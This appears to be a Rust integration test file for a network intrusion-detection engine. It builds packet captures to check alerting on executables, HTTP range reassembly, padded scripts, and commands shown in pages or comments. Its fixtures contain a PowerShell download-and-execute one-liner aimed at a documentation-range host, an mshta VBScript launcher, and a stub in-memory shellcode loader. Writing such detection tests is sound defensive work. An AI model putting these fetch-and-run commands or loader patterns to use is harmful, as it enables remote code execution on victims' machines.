//! Files over HTTP as the binary tells them: long ones, and ones that come in ranges over several connections.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::indexing_slicing, clippy::panic, reason = "tests")]

mod common;

use std::path::{Path, PathBuf};

use backstop_testkit::Conversation;
use backstop_testkit::pcap::{ETHERNET, PcapWriter};
use backstop_types::{Direction, Endpoint, PacketTime};
use common::{alert_counts, final_counters, of_type, records, replay, schema};
use serde_json::Value;

const LOADER: &[u8] = b"$p='AAAA'\n$b=[Convert]::FromBase64String($p)\n$d=New-Object IO.Compression.DeflateStream($m,0)\n\
    [Runtime.InteropServices.Marshal]::GetDelegateForFunctionPointer($a,$t).Invoke()\n";

/// A capture of connections of `clients`, one after the other, each with one request for `target` and its response.
fn capture(folder: &Path, connections: &[(&str, &str, Vec<u8>)]) -> PathBuf {
    let path = folder.join("input.pcap");
    let mut out = PcapWriter::new(std::fs::File::create(&path).unwrap(), ETHERNET).unwrap();
    let mut micros = 1_768_384_800_000_000;
    for (number, (client, target, response)) in connections.iter().enumerate() {
        let client = Endpoint::new(client.parse().unwrap(), 40_000 + u16::try_from(number).unwrap());
        let server = Endpoint::new("203.0.113.9".parse().unwrap(), 80);
        let mut talk = Conversation::new(client, server, (1, 1));
        let mut segments = talk.handshake();
        segments.extend(talk.data(Direction::ToServer, format!("GET {target} HTTP/1.1\r\nHost: h\r\n\r\n").as_bytes()));
        segments.extend(talk.data(Direction::ToClient, response));
        for segment in &segments {
            micros += 100;
            out.write(PacketTime::from_micros(micros), &talk.frame(segment)).unwrap();
        }
    }
    out.finish().unwrap();
    path
}

fn whole(body: &[u8]) -> Vec<u8> {
    [format!("HTTP/1.1 200 OK\r\nContent-Length: {}\r\n\r\n", body.len()).as_bytes(), body].concat()
}

fn range(file: &[u8], from: usize, until: usize, tag: &str) -> Vec<u8> {
    let head = format!(
        "HTTP/1.1 206 Partial Content\r\nETag: \"{tag}\"\r\nContent-Range: bytes {from}-{}/{}\r\nContent-Length: {}\r\n\r\n",
        until - 1,
        file.len(),
        until - from
    );
    [head.as_bytes(), &file[from..until]].concat()
}

fn replayed(path: &Path, args: &[&str]) -> Vec<Value> {
    let lines = replay(path, args);
    for workers in ["2", "8"] {
        assert!(lines == replay(path, &[args, &["--workers", workers]].concat()), "{workers} workers say the same");
    }
    let records = records(&lines);
    schema::assert_all_fit(&records);
    records
}

fn padded(text: &[u8], len: usize) -> Vec<u8> {
    let mut body = text.to_vec();
    while body.len() < len {
        body.extend_from_slice(b"# nothing but padding stands in this line of the script, and in all that follow it\n");
    }
    body
}

#[test]
fn a_program_that_an_ordinary_client_fetches_is_silent_however_long_it_is() {
    let folder = tempfile::tempdir().unwrap();
    let mut program = b"MZ".to_vec();
    program.resize(0x3c, 0);
    program.extend(0x80_u32.to_le_bytes());
    program.resize(0x80, 0);
    program.extend(b"PE\0\0");
    program.resize(300_000, 0x90);
    let path = capture(folder.path(), &[("10.20.30.77", "/setup.exe", whole(&program))]);
    for max in ["files.max_file=1MiB", "files.max_file=64KiB", "files.enabled=false"] {
        let records = replayed(&path, &["--set", max]);
        assert_eq!(of_type(&records, "alert"), Vec::<&Value>::new(), "{max}");
        for record in of_type(&records, "fileinfo") {
            assert_eq!((&record["fileinfo"]["magic"], &record["fileinfo"]["size"]), (&"PE executable".into(), &300_000.into()));
            assert!(record["fileinfo"]["sha256"].is_string(), "{max}");
        }
    }
    // A backup server is another matter, and the long file no excuse.
    let records = replayed(&path, &["--set", "files.max_file=64KiB", "--set", "backup_servers=10.20.30.77"]);
    assert_eq!(alert_counts(&records).into_iter().collect::<Vec<_>>(), [(9_404_007, 1)]);
    // Nor are ranges, of which the first one begins as a program.
    let ranges = [(100_000, 300_000), (0, 100_000)];
    let ranges = ranges.map(|(from, until)| ("10.20.30.77", "/logo.png", range(&program, from, until, "a")));
    let records =
        replayed(&capture(folder.path(), &ranges), &["--set", "backup_servers=10.20.30.77", "--set", "parser.max_range=64KiB"]);
    assert_eq!(alert_counts(&records).into_iter().collect::<Vec<_>>(), [(9_404_007, 1)]);
    let alert = of_type(&records, "alert")[0];
    assert_eq!((&alert["files"][0]["magic"], &alert["http"]["status"]), (&"PE executable".into(), &206.into()));
}

#[test]
fn a_page_that_shows_commands_is_silent_and_what_comes_behind_it_is_not() {
    let folder = tempfile::tempdir().unwrap();
    let line = "Set-ExecutionPolicy Bypass -Scope Process -Force; iex ((New-Object System.Net.WebClient).DownloadString('http://203.0.113.9/a'))";
    let page = format!("<!DOCTYPE html>\n<html><body><script>var a = 1;</script><pre>{line}</pre></body></html>").into_bytes();
    let feed = format!("<?xml version=\"1.0\"?><rss><item><description>{line}</description></item></rss>").into_bytes();
    let told = |body: &[u8]| {
        let path = capture(folder.path(), &[("10.20.30.77", "/install", whole(body))]);
        alert_counts(&replayed(&path, &[])).into_keys().collect::<Vec<_>>()
    };
    assert_eq!((told(&page), told(&feed)), (vec![], vec![]));
    assert_eq!(told(line.as_bytes()), [9_403_003]);
    // An application of mshta.exe is a page by its form only.
    let shell = format!(
        "<html><script language=\"VBScript\">CreateObject(\"WScript.Shell\").Run \"powershell -c {line}\"</script></html>"
    );
    assert_eq!(told(shell.as_bytes()), [9_403_003]);
    // So is a batch file that begins as one.
    let batch = format!("<html>\r\npowershell -c {line}\r\n");
    let path = capture(folder.path(), &[("10.20.30.77", "/install.bat", whole(batch.as_bytes()))]);
    assert_eq!(alert_counts(&replayed(&path, &[])).into_keys().collect::<Vec<_>>(), [9_403_003]);
    // The page says nothing of the next body of its connection: words of a text, where nothing else tells of them.
    let json = format!("{{\"run\": \"{line}\"}}");
    let path = capture(folder.path(), &[("10.20.30.77", "/install", [whole(&page), whole(json.as_bytes())].concat())]);
    assert_eq!(alert_counts(&replayed(&path, &[])).into_keys().collect::<Vec<_>>(), [9_411_023]);
}

#[test]
fn a_command_in_a_comment_is_silent_and_one_behind_it_is_not() {
    let folder = tempfile::tempdir().unwrap();
    let line = "iex (irm http://203.0.113.9/a)";
    let told = |body: String| {
        let path = capture(folder.path(), &[("10.20.30.77", "/install.txt", whole(body.as_bytes()))]);
        alert_counts(&replayed(&path, &[])).into_keys().collect::<Vec<_>>()
    };
    assert_eq!(told(format!("# Install: {line}\r\n  #   {line}\r\nGet-Date\r\n")), [0_u64; 0]);
    assert_eq!(told(format!("@echo off\r\nREM powershell {line}\r\ndir\r\n")), [0_u64; 0]);
    // What no detection understands is told by its words.
    assert_eq!(told(format!("# Install: {line}\r\nrun: '{line}'\r\n")), [9_411_023]);
    assert_eq!(told(format!("# Install\r\n{line}\r\n")), [9_403_003]);
}

#[test]
fn a_script_by_the_name_that_its_sender_gives_is_one() {
    let folder = tempfile::tempdir().unwrap();
    let told = |fields: &str, target: &str| {
        let response = format!("HTTP/1.1 200 OK\r\n{fields}Content-Length: 8\r\n\r\nGet-Date").into_bytes();
        let path = capture(folder.path(), &[("10.20.30.77", target, response)]);
        alert_counts(&replayed(&path, &["--set", "backup_servers=10.20.30.77"])).into_keys().collect::<Vec<_>>()
    };
    assert_eq!(told("Content-Disposition: attachment; filename=\"x.ps1\"\r\n", "/get?id=5"), [9_404_007]);
    assert_eq!(told("", "/x%2eps1"), [9_404_007]);
    assert_eq!(told("Content-Disposition: attachment; filename=\"x.txt\"\r\n", "/get?id=x.ps1"), [0_u64; 0]);
}

#[test]
fn padding_behind_a_script_does_not_hide_it() {
    let folder = tempfile::tempdir().unwrap();
    let path = capture(folder.path(), &[("10.20.30.77", "/update.txt", whole(&padded(LOADER, 400_000)))]);
    for max in ["files.max_file=1MiB", "files.max_file=64KiB"] {
        let records = replayed(&path, &["--set", max]);
        let alerts = of_type(&records, "alert");
        let told: Vec<_> = alerts.iter().map(|alert| alert["alert"]["signature_id"].as_u64().unwrap()).collect();
        assert!(told.contains(&9_403_001), "{max}: {told:?}");
        let file = alerts.iter().find(|alert| alert["alert"]["signature_id"] == 9_403_001).unwrap();
        assert_eq!((&file["files"][0]["filename"], &file["files"][0]["state"]), (&"update.txt".into(), &"CLOSED".into()));
    }
}

#[test]
fn ranges_over_several_connections_are_one_file_and_one_alert() {
    let folder = tempfile::tempdir().unwrap();
    // The words that matter lie across the ranges: none of them says enough alone.
    let script = padded(LOADER, 4_000);
    let cuts = [0, 40, 80, 120, script.len()];
    let of = |client: &'static str, part: usize, tag: &str| {
        (client, "/a/gup18.ps1?x=1", range(&script, cuts[part], cuts[part + 1], tag))
    };
    let (one, other) = ("10.20.30.77", "10.20.30.78");
    let path = capture(folder.path(), &[of(one, 3, "a"), of(one, 1, "a"), of(other, 0, "a"), of(one, 2, "a"), of(one, 0, "a")]);
    let records_of = |path: &Path| replayed(path, &[]);
    let records = records_of(&path);
    assert_eq!(alert_counts(&records).into_iter().collect::<Vec<_>>(), [(9_403_001, 1)]);
    let alert = of_type(&records, "alert")[0];
    assert_eq!((&alert["dest_ip"], &alert["files"][0]["size"]), (&one.into(), &script.len().into()));
    let told = of_type(&records, "fileinfo");
    assert_eq!((told.len(), &told[0]["fileinfo"]["filename"]), (1, &"gup18.ps1".into()));
    assert_eq!((&told[0]["http"]["url"], &told[0]["src_ip"]), (&"/a/gup18.ps1?x=1".into(), &"203.0.113.9".into()));
    assert_eq!(final_counters(&records)["files"]["ranges_joined"], 1);
    // Another version of the file, or a range that is missing: no file.
    for mixed in
        [[of(one, 0, "a"), of(one, 1, "b"), of(one, 2, "a"), of(one, 3, "a")], [0, 1, 1, 3].map(|part| of(one, part, "a"))]
    {
        let records = records_of(&capture(folder.path(), &mixed));
        assert_eq!(final_counters(&records)["files"]["ranges_joined"], 0);
        assert_eq!(of_type(&records, "fileinfo"), Vec::<&Value>::new());
    }
}
